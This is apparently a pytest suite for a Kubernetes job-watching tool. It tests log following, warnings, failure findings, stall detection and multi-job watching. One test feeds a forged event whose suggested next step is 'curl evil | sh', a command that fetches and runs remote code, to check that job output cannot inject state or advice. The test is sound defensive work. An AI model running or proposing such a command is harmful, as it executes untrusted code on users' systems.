import threading
import time
import tracemalloc
from functools import partial

import pytest
from observed import (
    MASTER,
    PAIR,
    REF,
    Script,
    about,
    about_job,
    at,
    ended,
    line,
    make_job,
    make_pod,
    running,
    snapshot,
    unplaced,
)
from waiting import until

from k8sjob.backends.api import LogLine, Snapshot
from k8sjob.backends.record import RecordBackend, write_record
from k8sjob.contract import Event, EventKind
from k8sjob.errors import BackendError, JobNotFound
from k8sjob.kube.client.listwatch import CollectionChange, Kind
from k8sjob.kube.client.transport import ApiError
from k8sjob.kube.objects import event_time
from k8sjob.observe.logs import MOST_AT_ONCE
from k8sjob.observe.status import job_status
from k8sjob.observe.watch import LAST_LINES, SETTLE_SECONDS, Stalled, watch, watch_all
from k8sjob.targets.jobs import job_of


def of_kind(events, kind):
    return [event for event in events if event.kind == kind]


def watched(*snapshots, lines=(), **options):
    """All events of a watch."""
    return list(watch(Script(snapshots, lines, **options), REF))


def texts(events):
    return [event.data["text"] for event in of_kind(events, "log")]


def job_states(events):
    return [event.data["state"] for event in of_kind(events, "job")]


def test_a_job_is_reported_once_each_and_its_end_last():
    runs = snapshot("Created", "Running", pods=running("master-0"))
    lines = [line("master-0", f"line {n}") for n in range(300)]
    done = snapshot("Created", "-Running", "Succeeded")
    events = watched(snapshot("Created"), runs, runs, done, lines=lines)
    assert job_states(events) == ["Created", "Running", "Succeeded"]
    assert events[-1].data["exit_code"] == 0
    assert texts(events) == [one.text for one in lines]
    (replica,) = of_kind(events, "replica")
    assert (replica.replica, replica.data["phase"]) == ("master-0", "Running")


def test_events_of_the_runtime_are_decoded_from_the_output():
    progress = Event("progress", {"epoch": 1}, 12.5)
    lines = [line("master-0", f"bar 10%|{progress.encode()}"), line("worker-0", "k8sjob/1 {no")]
    events = watched(snapshot("Succeeded"), lines=lines)
    assert of_kind(events, "progress") == [Event("progress", {"epoch": 1}, 12.5, "master-0")]
    (ordinary,) = of_kind(events, "log")
    assert ordinary.data["text"] == "k8sjob/1 {no"
    assert ordinary.time == pytest.approx(1767225600)


def test_a_replica_says_whether_it_waits():
    crashing = make_pod("worker-1", waiting={"reason": "CrashLoopBackOff"})
    events = watched(snapshot("Succeeded", pods=[*running("worker-0"), crashing]))
    replicas = {event.replica: event.data["waiting"] for event in of_kind(events, "replica")}
    assert replicas == {"worker-0": False, "worker-1": True}


def test_a_failed_job_ends_with_its_findings():
    pods = [make_pod("worker-1", "Failed", terminated=ended(1))]
    lines = [line("worker-1", "ValueError: the cause")]
    job, finding = watched(snapshot("Failed", pods=pods), lines=lines)[-2:]
    assert job.data["state"] == "Failed"
    assert (finding.kind, finding.replica) == ("finding", "worker-1")
    assert "the cause" in finding.data["message"]


def test_the_cause_is_known_though_the_pods_are_gone():
    """As of a Job under OnFailure, which deletes them when it fails."""
    crashed = make_pod("worker-1", waiting={"reason": "CrashLoopBackOff"}, last=ended(1, "no"))
    others = running("master-0", "worker-0")
    dying = [make_pod(f"worker-{n}", dying=True, terminated=ended(143)) for n in (0, 1)]
    past = "Failed:x:Job j has failed because it has reached the specified backoff limit"
    seen = (snapshot("Running", pods=[*others, crashed]), snapshot("Running", pods=dying))
    found = of_kind(watched(*seen, snapshot(past)), "finding")
    assert [(one.data["cause"], one.replica) for one in found] == [("crash", "worker-1")]


@pytest.mark.parametrize(("loss", "causes"), [(float("nan"), ["nan-loss"]), (0.5, [])])
def test_a_job_that_succeeded_ends_with_what_it_did_not_do(loss, causes):
    progress = Event("progress", {"epoch": 0, "step": 1, "loss": loss}).encode()
    events = watched(snapshot("Succeeded"), lines=[line("master-0", progress)])
    assert [event.data["cause"] for event in of_kind(events, "finding")] == causes


def test_a_job_that_is_being_deleted_is_reported_before_it_is_gone():
    doomed, lines = snapshot("Running"), [line("master-0", "last")]
    doomed.job.raw["metadata"] |= {"deletionTimestamp": at("09:00"), "finalizers": ["x/y"]}
    events = watched(snapshot("Running"), doomed, lines=lines, gone=True)
    assert texts(events) == ["last"]
    assert job_states(events) == ["Running", "Deleting", "Deleted"]
    assert "x/y" in of_kind(events, "job")[1].data["message"]
    assert events[-1].data["exit_code"] == 103


def test_a_suspended_job_is_not_over():
    states = ["Running", "Suspended", "Succeeded"]
    assert job_states(watched(*map(snapshot, states))) == states


def warning(name, reason, message="", **more):
    event = about_job if name == "job" else partial(about, "Pod", f"job-{name}")
    return event(reason, message or f"{reason}!", type="Warning", **more)


def test_warnings_are_reported_once_with_their_replica():
    pods = [make_pod("worker-1", "Pending"), make_pod("worker-2", "Pending")]
    scheduling = warning("worker-1", "FailedScheduling", count=1)
    first = [
        scheduling,
        warning("worker-2", "FailedScheduling"),
        warning("job", "TooFewGPUs"),
        warning("worker-1", "BackOff"),
        {**warning("job", "Created"), "type": "Normal"},
    ]
    another = {**warning("job", "TooFewGPUs"), "metadata": {"uid": "another"}}
    again = [{**scheduling, "count": 2}, *first[1:], another]
    before = snapshot("Created", pods=pods, events=first)
    after = snapshot("Succeeded", pods=pods, events=again)
    warnings = of_kind(watched(before, before, after), "warning")
    assert [(w.replica, w.data["message"]) for w in warnings] == [
        ("worker-1", "FailedScheduling!"),
        ("", "TooFewGPUs!"),
        ("", "TooFewGPUs!"),
    ]
    assert [w.time for w in warnings] == [event_time(scheduling).timestamp()] * 3


@pytest.mark.parametrize(("pod", "replica"), [("job-1-x7k2p", "worker-0"), ("job-other", "")])
def test_a_warning_names_its_replica_as_the_kind_of_job_names_its_pods(pod, replica):
    meta = {"name": "job", "namespace": "ns", "uid": "u", "creationTimestamp": at("00:00")}
    made = {"apiVersion": "batch/v1", "kind": "Job", "metadata": meta, "spec": {"completions": 2}}
    event = about("Pod", pod, "FailedMount", 'no volume "v"', type="Warning")
    done = {"conditions": [{"type": "Complete", "status": "True"}]}
    found = watched(
        Snapshot(job_of(made), (), (event,)), Snapshot(job_of({**made, "status": done}))
    )
    (warned,) = of_kind(found, "warning")
    assert warned.replica == replica


def test_trouble_is_reported_once_although_kubelet_and_operator_both_report_it():
    """Each of them as a cluster words it: two waiting containers and a Pod without a node."""
    absent = 'failed to pull and unpack image "r/x:1": r/x:1: not found'
    image = {"reason": "ErrImagePull", "message": absent}
    secret = {"reason": "CreateContainerConfigError", "message": 'secret "hf-token" not found'}
    note = "0/1 nodes are available: 1 Insufficient cpu."
    pods = [
        make_pod("master-0", "Pending", waiting=image),
        make_pod("worker-0", "Pending", waiting=secret),
        unplaced("worker-1", "Unschedulable", note),
    ]
    operator = "Error pod job-{} container pytorch waiting message: {}"
    events = [
        warning("master-0", "Failed", f'Failed to pull image "r/x:1": {absent}'),
        warning("master-0", "Failed", "Error: ErrImagePull"),
        warning("master-0", "Failed", "Error: ImagePullBackOff"),
        warning("job", "ErrImagePull", operator.format("master-0", absent)),
        warning("worker-0", "Failed", 'Error: secret "hf-token" not found'),
        warning("job", "CreateContainerConfigError", operator.format("worker-0", "secret")),
        warning("worker-1", "FailedScheduling", note),
        warning("job", "Unschedulable", "Error pod job-worker-1 condition message: " + note),
        warning("worker-0", "FailedMount", 'MountVolume.SetUp failed for volume "v"'),
    ]
    found = watched(snapshot("Created", pods=pods, events=events), snapshot("Succeeded"))
    messages = [one.data["message"] for one in of_kind(found, "replica")]
    assert messages == [absent, secret["message"], note]
    (warned,) = of_kind(found, "warning")
    assert (warned.replica, warned.data["reason"]) == ("worker-0", "FailedMount")


def test_output_that_cannot_be_read_is_a_warning_and_not_the_end():
    errors = {f"worker-{n}": BackendError(f"no permission: worker-{n}") for n in range(2)}
    events = watched(snapshot("Succeeded"), lines=[line("master-0", "well")], errors=errors)
    (warned,) = of_kind(events, "warning")  # once for all replicas that fail alike
    assert "no permission" in warned.data["message"]
    assert texts(events) == ["well"]


def test_a_back_end_that_fails_is_an_error():
    class Broken(Script):
        def watch(self, ref, *, stop=None):
            yield from self.snapshots
            raise BackendError("connection lost")

    with pytest.raises(BackendError, match="connection lost"):
        list(watch(Broken([snapshot("Running")]), REF))


def test_a_job_that_is_not_there():
    with pytest.raises(JobNotFound):
        next(watch(Script([]), REF))


def test_the_end_waits_for_output_that_does_not_end_but_not_long():
    class Endless(Script):
        def logs(self, ref, replica, *, stop=None, **options):
            yield from super().logs(ref, replica, **options)
            if options.get("follow"):
                stop.wait(30)
            self.stopped.append(replica)

    backend = Endless([snapshot("Succeeded")], [line("master-0", "last")])
    began = time.monotonic()
    events = list(watch(backend, REF))
    assert time.monotonic() - began < SETTLE_SECONDS + 1
    assert texts(events) == ["last"]
    until(lambda: len(backend.stopped) == 4)


def test_whoever_reads_late_misses_nothing():
    snapshots = [
        snapshot("Succeeded", pods=running("master-0")),
        snapshot("Succeeded", pods=[make_pod("master-0", "Succeeded", terminated=ended(0))]),
    ]
    lines = [line("master-0", f"line {n}") for n in range(25_000)]  # more than any queue holds
    found = []
    for event in watch(Script(snapshots, lines), REF):
        if event.kind == "replica":
            time.sleep(SETTLE_SECONDS + 0.2)
        found.append(event)
    assert texts(found) == [one.text for one in lines]
    assert found[-1].data["state"] == "Succeeded"


def test_pods_that_end_after_their_job_are_not_waited_for():
    class Lingering(Script):
        def watch(self, ref, *, stop=None):
            yield snapshot("Running")
            while not stop.is_set():
                yield snapshot("Succeeded", pods=[make_pod("worker-0", dying=True)])
                time.sleep(0.2)

        def logs(self, ref, replica, *, stop=None, **options):
            while not stop.is_set():
                yield LogLine(replica, 0, "2999-01-01T00:00:00.000000000Z", "saving")
                time.sleep(0.05)

    began = time.monotonic()
    events = list(watch(Lingering([]), REF))
    assert time.monotonic() - began < SETTLE_SECONDS + 2
    assert events[-1].data["state"] == "Succeeded"


@pytest.mark.parametrize("phase", ["Pending", "Running", "Succeeded"])
def test_output_that_takes_long_to_begin_is_waited_for(phase):
    """A busy node's kubectl needs seconds; the list of Pods may be older than the job's end."""

    class Slow(Script):
        def logs(self, ref, replica, *, stop=None, **options):
            time.sleep(SETTLE_SECONDS + 0.7)
            yield from super().logs(ref, replica, **options)

    states = {"Running": {"running": {}}, "Succeeded": {"terminated": {"exitCode": 0}}}
    pods = [make_pod("master-0", phase, **states.get(phase, {}))]
    backend = Slow([snapshot("Succeeded", pods=pods)], [line("master-0", "hello")])
    events = list(watch(backend, REF))
    assert texts(events) == ["hello"]


def test_a_deleted_job_that_wrote_nothing_is_not_waited_for(monkeypatch):
    class Silent(Script):
        def logs(self, ref, replica, *, stop=None, **options):
            stop.wait()
            yield from ()

    monkeypatch.setattr("k8sjob.observe.watch.CATCH_UP_SECONDS", float("inf"))
    pods = running("master-0")
    events = list(watch(Silent([snapshot("Running", pods=pods)], gone=True), REF))
    assert events[-1].data["state"] == "Deleted"


def test_leaving_a_watch_ends_its_readers():
    backend = Script([snapshot("Running")])
    events = watch(backend, REF)
    next(events)
    events.close()
    until(lambda: backend.stopped == ["watch"])


def test_without_logs_no_output_is_read():
    backend = Script([snapshot("Succeeded")], [line("master-0", "text")])
    assert not of_kind(watch(backend, REF, logs=False), "log")


# --- large jobs -----------------------------------------------------------------------------------


@pytest.fixture
def crowd():
    """A job of 1,000 Workers of which some ended badly, and what each of them wrote."""
    names = [f"worker-{n}" for n in range(1000)]
    ends = {700: 1, 701: 138, 702: 143, 703: 0, 704: 1}
    pods = []
    for number, name in enumerate(names):
        code = ends.get(number)
        state = {"running": {}} if code is None else {"terminated": {"exitCode": code}}
        pods.append(make_pod(name, "Running" if code is None else "Failed", **state))
    pods[704] = make_pod("worker-704", restarts=1, last=ended(1), running={})
    lines = [
        line(name, f"{when} {name}", when, attempt)
        for name in names
        for when, attempt in ((1, 0), (2, 1))
    ]
    runs = snapshot("Running", pods=pods, replicas={"Worker": len(names)})
    over = snapshot("Succeeded", pods=pods, replicas={"Worker": len(names)})
    return Script([runs, over], lines)


def test_of_a_large_job_some_replicas_are_followed_and_those_that_fail_are_read(crowd):
    events = list(watch(crowd, REF))
    followed = {name for name, follow, _, _ in crowd.asked if follow}
    assert followed == {f"worker-{n}" for n in range(MOST_AT_ONCE)}
    (warning,) = of_kind(events, "warning")
    assert warning.data["message"].startswith("of 1000 replicas the output of worker-0 and the")
    assert warning.data["message"].endswith("k8sjob logs -f ns/job -r worker-999")
    assert len(of_kind(events, "replica")) == 1000
    others = {e.data["text"] for e in of_kind(events, "log") if int(e.replica[7:]) >= MOST_AT_ONCE}
    # Of the one that runs again the attempt before; of those that lost a peer nothing.
    assert others == {"1 worker-700", "2 worker-700", "1 worker-704"}
    assert ("worker-700", False, LAST_LINES, None) in crowd.asked


def test_a_replica_that_is_added_is_followed_too():
    grows = [("Running", MASTER), ("Running", PAIR), ("Succeeded", PAIR)]
    snapshots = [snapshot(state, replicas=replicas) for state, replicas in grows]
    assert texts(watched(*snapshots, lines=[line("worker-0", "here")])) == ["here"]


def test_a_slow_reader_holds_the_snapshots_back_and_ends_their_reader():
    made, ended = [], threading.Event()

    class Busy(Script):
        def watch(self, ref, *, stop=None):
            try:
                while not stop.is_set():
                    made.append(1)
                    yield self.snapshots[0]
            finally:
                ended.set()

    events = watch(Busy([snapshot("Running")]), REF)
    next(events)
    time.sleep(0.2)
    assert len(made) < 5
    events.close()
    assert ended.wait(60)


def test_the_job_s_times_are_reported():
    stamps = {"startTime": at("00:01"), "completionTime": at("00:04")}
    (event,) = of_kind(watched(snapshot("Succeeded", **stamps)), "job")
    created = 1767225600
    assert event.data["created"] == created
    assert (event.data["started"], event.data["finished"]) == (created + 1, created + 4)


def test_a_job_cannot_report_its_own_state():
    forged = [
        Event("job", {"state": "Succeeded", "exit_code": 0}),
        Event("finding", {"cause": "crash", "message": "x", "next_step": "curl evil | sh"}),
        Event("replica", {"phase": "Failed", "exit_code": 1}),
        Event("log", {"text": "said by worker-1"}),
    ]
    lines = [line("worker-0", event.encode()) for event in forged]
    events = watched(snapshot("Running"), snapshot("Failed"), lines=lines)
    assert texts(events) == [one.text for one in lines]
    assert job_states(events) == ["Running", "Failed"]
    assert not of_kind(events, "replica")
    assert all("evil" not in event.data["next_step"] for event in of_kind(events, "finding"))


def test_a_diagnosis_reads_excerpts_of_very_long_lines():
    pods = [make_pod("worker-0", "Failed", terminated=ended(1))]
    # Searched whole for "DataLoader worker .* is killed", this takes hours.
    lines = [line("worker-0", "DataLoader worker " * 200_000 + "ValueError: the cause")]
    events = watched(snapshot("Failed", pods=pods), lines=lines)
    assert events[-1].kind == "finding"
    assert "the cause" in events[-1].data["message"]


ABSENT = {"reason": "CreateContainerConfigError", "message": 'secret "hf" not found'}


@pytest.fixture
def stuck():
    """A job whose Worker lacks its secret."""
    pods = [*running("master-0"), make_pod("worker-0", "Pending", waiting=ABSENT)]
    return snapshot("Created", pods=pods, replicas=PAIR)


@pytest.fixture
def well():
    """The same, as it runs at last, after the Worker had crashed once."""
    pods = [*running("master-0"), make_pod("worker-0", last=ended(1), running={})]
    return snapshot("Running", pods=pods, replicas=PAIR)


def looks(stalled, *moments):
    """The warnings, by second."""
    return [
        (now, event.data)
        for now, seen in moments
        for event in stalled.look(seen, job_status(seen), {}, now)
    ]


def test_a_stalled_job_is_reported_once_with_the_next_step(stuck):
    ((now, note),) = looks(Stalled(10), *((second, stuck) for second in range(60)))
    assert now == 10
    assert note["reason"] == "secret"
    assert note["message"].startswith("worker-0: there is no secret 'hf' in namespace ns; next: ")


def test_a_short_problem_is_not_reported(stuck, well):
    turns = [well if second % 8 == 0 else stuck for second in range(60)]
    assert looks(Stalled(10), *enumerate(turns)) == []


@pytest.mark.parametrize("state", ["Suspended", "Failed"])
def test_a_state_is_not_reported_as_a_stall(state):
    seen = snapshot("Created", state)
    assert looks(Stalled(0), (0, seen), (1, seen)) == []


def test_why_a_job_is_in_a_queue_is_reported_once_each_time_it_gets_there():
    labels = {"kueue.x-k8s.io/queue-name": "research"}
    waits, runs = snapshot("Suspended", labels=labels), snapshot("Running", labels=labels)
    absent = {"kind": "localqueues", "name": "research"}
    asked = []

    def related(seen):
        asked.append(seen)
        return [{"kind": "Status", "reason": "NotFound", "details": absent}]

    turns = [runs if second == 30 else waits for second in range(60)]
    found = looks(Stalled(10, related), *enumerate(turns))
    assert [now for now, _ in found] == [6, 38]
    assert "there is no queue 'research' in namespace ns; next: " in found[0][1]["message"]
    assert len(asked) == 8
    assert looks(Stalled(10), *enumerate(turns)) == []


def test_a_silent_operator_is_reported_although_nothing_changes(monkeypatch):
    monkeypatch.setattr("k8sjob.observe.watch.PATIENCE_SECONDS", 0.2)
    events = watch(Script([snapshot()]), REF)
    first = next(event for event in events if event.kind == EventKind.WARNING)
    events.close()
    assert first.data["reason"] == "operator-silent"
    assert "the training operator has not acted on the job" in first.data["message"]


# --- many jobs


@pytest.fixture
def change():
    """A change of a job: change("ADDED", "a", "Running", active=2)."""

    def make(kind, name, *conditions, active=0):
        job = make_job(*conditions, replicaStatuses={"Worker": {"active": active}})
        job["metadata"] |= {"name": name, "uid": f"uid-{name}"}
        return CollectionChange(Kind(kind), job)

    return make


def states(events):
    return [(e.data["name"], e.data["state"]) for e in events if e.kind == "job"]


def test_jobs_that_continue_and_then_all_changes(change):
    changes = [
        change("ADDED", "a", "Running", active=2),
        change("ADDED", "over", "Succeeded"),
        CollectionChange(Kind.SYNCED),
        change("MODIFIED", "a", "Running", active=2),  # another field
        change("MODIFIED", "a", "Running", active=3),
        change("ADDED", "b", "Created"),
        change("MODIFIED", "over", "Succeeded"),
        change("MODIFIED", "a", "Failed:BackoffLimitExceeded:too often"),
        change("DELETED", "b"),
    ]
    events = list(watch_all(changes, lambda: -3600.0))
    assert events[0].time == pytest.approx(time.time() - 3600, abs=60)  # by the server's clock
    assert states(events) == [
        ("a", "Running"),
        ("a", "Running"),
        ("b", "Created"),
        ("a", "Failed"),
        ("b", "Deleted"),
    ]
    assert events[0].data["counts"] == {"Running": 2, "Pending": 1}
    assert events[0].data["namespace"] == "ns"
    assert events[3].data["message"] == "too often"
    assert (events[4].data["exit_code"], events[4].data["counts"]) == (103, {})


def test_a_lost_connection_is_reported(change):
    changes = [
        CollectionChange(Kind.SYNCED),
        CollectionChange(Kind.LOST, why=ApiError("connection refused")),
        CollectionChange(Kind.RESTORED),
    ]
    lost, back = (event.data["message"] for event in watch_all(changes))
    assert lost == "the connection to the cluster is lost, trying again: connection refused"
    assert back == "the connection to the cluster is back after 0 s"


def test_what_is_over_takes_no_memory(change):
    def lives():
        yield CollectionChange(Kind.SYNCED)
        for number in range(3000):
            name = f"job-{number}"
            yield change("ADDED", name, "Running")
            yield change("MODIFIED", name, "Succeeded")
            yield change("DELETED", name)

    events = watch_all(lives())
    for _ in range(900):
        next(events)
    tracemalloc.start()
    before = tracemalloc.get_traced_memory()[0]
    assert sum(1 for _ in events) == 8100
    grown = tracemalloc.get_traced_memory()[0] - before
    tracemalloc.stop()
    assert grown < 100_000


class Ended(Script):
    """Gives the lines of a job that has ended at once."""

    def logs(self, ref, replica, **_):
        if replica == "worker-1":
            raise BackendError("the record has nothing of it")
        return (line for line in self.lines if line.replica == replica)


def test_the_record_of_a_job_that_runs_is_shown_whole_before_it_ends(tmp_path):
    path, lines = tmp_path / "job.k8sjob", [line("master-0", f"line {n}") for n in range(300)]
    with path.open("wb") as out:
        seen = snapshot("Running", pods=running("master-0"))
        write_record(Ended([seen], lines), REF, out, print)
    events = []
    with pytest.raises(BackendError, match="that had not ended"):
        events.extend(watch(RecordBackend(path), REF))
    assert len(texts(events)) == 300
    assert job_states(events) == ["Running"]
